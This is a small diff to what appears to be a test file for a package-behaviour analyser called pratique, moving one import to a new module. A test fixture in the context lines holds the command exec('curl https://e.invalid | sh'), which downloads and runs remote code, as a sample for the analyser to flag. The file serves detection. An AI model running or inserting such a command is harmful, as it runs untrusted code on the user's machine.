@@ -14,7 +14,8 @@ from pratique.model.behavior import ANALYSER, Analysis, Dependencies, Inner, See
 from pratique.model.fact import Missing
 from pratique.model.package import Digest
 from pratique.model.record import Sight
-from pratique.proxy.verdicts import Judging, Known
+from pratique.proxy.known import Known
+from pratique.proxy.verdicts import Judging
 
 EXEC = Seen("exec.process:download", "index.js", 1, "exec('curl https://e.invalid | sh')")
 POLICY = policy()
